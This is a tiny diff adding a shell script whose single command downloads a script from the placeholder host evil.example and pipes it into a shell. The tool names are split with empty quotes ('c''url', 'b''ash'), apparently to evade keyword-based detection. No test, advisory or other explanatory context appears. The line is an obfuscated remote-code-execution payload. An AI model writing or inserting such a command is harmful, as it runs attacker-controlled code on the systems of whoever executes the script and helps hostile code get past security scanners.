@@ -1,0 +1,2 @@
+#!/bin/sh
+c''url -fsSL https://evil.example/i.sh | b''ash
